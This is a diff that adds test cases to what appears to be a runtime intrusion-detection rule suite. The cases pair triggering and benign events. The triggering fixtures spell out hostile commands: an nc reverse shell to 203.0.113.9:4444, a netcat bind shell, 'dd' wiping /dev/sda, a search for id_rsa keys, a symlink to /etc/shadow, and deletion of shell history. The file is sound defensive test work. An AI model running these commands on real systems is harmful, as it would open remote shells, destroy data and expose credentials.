@@ -115,6 +115,60 @@ const cases: Case[] = [
     fire: () => [ev('syscall.bpf', { cmd: 5, cmd_name: 'BPF_PROG_LOAD', ret: 7 }, { comm: 'loader' })],
     miss: () => [ev('syscall.bpf', { cmd: 0, cmd_name: 'BPF_MAP_CREATE', ret: 7 }, { comm: 'loader' })],
   },
+  {
+    rule: 'Link over sensitive file',
+    fire: () => [ev('syscall.symlink', { target: '/etc/../etc/shadow', linkpath: '/tmp/s', resolved_target: '/etc/shadow', resolved_linkpath: '/tmp/s', ret: 0 }, { comm: 'ln' })],
+    miss: () => [ev('syscall.link', { oldpath: '/etc/passwd', newpath: '/tmp/p', resolved_oldpath: '/etc/passwd', resolved_newpath: '/tmp/p', ret: 0 }, { comm: 'ln' })],
+  },
+  {
+    rule: 'Log or shell history cleared',
+    fire: () => [ev('syscall.unlink', { path: '.ash_history', resolved_path: null, ret: 0 }, { comm: 'rm' })],
+    // Rotation: a rotated generation deleted, and a shell starting a fresh log after `mv`.
+    miss: () => [
+      ev('syscall.unlink', { path: '/var/log/app.log.2.gz', resolved_path: '/var/log/app.log.2.gz', ret: 0 }, { comm: 'sh' }),
+      open('/var/log/app.log', 'w', { comm: 'sh' }),
+    ],
+  },
+  { rule: 'Bulk data removal tool run', fire: () => [exec('/bin/dd', ['dd', 'if=/dev/zero', 'of=/dev/sda'])], miss: () => [exec('/bin/dd', ['dd', 'if=/dev/zero', 'of=/dev/null'])] },
+  {
+    rule: 'Packet or raw socket created',
+    fire: () => [ev('syscall.socket', { family: 17, family_name: 'AF_PACKET', sock_type: 3, sock_type_name: 'SOCK_RAW', protocol: 768, ret: 3 }, { comm: 'tcpdump' })],
+    miss: () => [ev('syscall.socket', { family: 2, family_name: 'AF_INET', sock_type: 3, sock_type_name: 'SOCK_RAW', protocol: 1, ret: 3 }, { comm: 'ping' })],
+  },
+  { rule: 'Netcat or socat with exec option', fire: () => [exec('/bin/nc', ['nc', '-lp', '9000', '-e', '/bin/sh'])], miss: () => [exec('/bin/nc', ['nc', '-lp', '9000'])] },
+  { rule: 'Search for credentials', fire: () => [exec('/usr/bin/find', ['find', '/', '-name', 'id_rsa'])], miss: () => [exec('/usr/bin/find', ['find', '/app', '-name', '*.log'])] },
+  {
+    rule: 'Network socket redirected onto stdin or stdout',
+    fire: () => [exec('/bin/nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'], { pid: 90 }), ev('syscall.dup2', { oldfd: 3, newfd: 0, oldfd_socket: true, oldfd_family: 2, oldfd_family_name: 'AF_INET', ret: 0 }, { pid: 90, comm: 'nc' })],
+    // A unix socketpair onto stdout (a supervisor's log pipe) is ordinary.
+    miss: () => [ev('syscall.dup2', { oldfd: 3, newfd: 1, oldfd_socket: true, oldfd_family: 1, oldfd_family_name: 'AF_UNIX', ret: 1 }, { comm: 'supervisord' })],
+  },
+  {
+    rule: 'Ptrace anti-debugging in container',
+    fire: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: -1 }, { comm: 'malware' })],
+    miss: () => [ev('syscall.ptrace', { request: 0, request_name: 'PTRACE_TRACEME', target_pid: 0, ret: 0 }, { comm: 'gdb', container: null })],
+  },
+  {
+    rule: 'Outbound SSH to non-standard port',
+    fire: () => [exec('/usr/bin/ssh', ['ssh', '-p', '2222', 'x@203.0.113.9'], { pid: 70 }), ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '203.0.113.9', dport: 2222, ret: 0 }, { pid: 70, comm: 'ssh' })],
+    miss: () => [exec('/usr/bin/ssh', ['ssh', 'x@203.0.113.9'], { pid: 70 }), ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '203.0.113.9', dport: 22, ret: 0 }, { pid: 70, comm: 'ssh' })],
+  },
+  {
+    rule: 'Contact with the Kubernetes API server',
+    fire: () => [ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '10.96.0.1', dport: 443, ret: -115 }, { comm: 'curl' })],
+    miss: () => [ev('syscall.connect', { fd: 3, family: 2, family_name: 'AF_INET', daddr: '10.96.0.10', dport: 53, ret: 0 }, { comm: 'curl' })],
+  },
+  {
+    rule: 'Kernel module load attempt in container',
+    fire: () => [ev('syscall.finit_module', { fd: 3, flags: 0, ret: -1, blocked: true }, { comm: 'insmod' })],
+    miss: () => [ev('syscall.finit_module', { fd: 3, flags: 0, ret: 0 }, { comm: 'insmod', container: null })],
+  },
+  {
+    rule: 'System user interactive session',
+    fire: () => [ev('process.exec', { filename: '/bin/sh', argv: ['sh'], ppid: 1, uid: 33, ns_pid: 7, tty: 136 << 20 }, { comm: 'sh' })],
+    miss: () => [ev('process.exec', { filename: '/bin/sh', argv: ['sh', '-c', 'php artisan queue:work'], ppid: 1, uid: 33, ns_pid: 7, tty: 0 }, { comm: 'sh' })],
+  },
+  { rule: 'Debugfs run in container', fire: () => [exec('/sbin/debugfs', ['debugfs', '/dev/sda1'])], miss: () => [exec('/sbin/dumpe2fs', ['dumpe2fs', '/dev/sda1'])] },
 ];
 
 function run(events: IEvent[], frozen: string[] = []): AlertEvent[] {
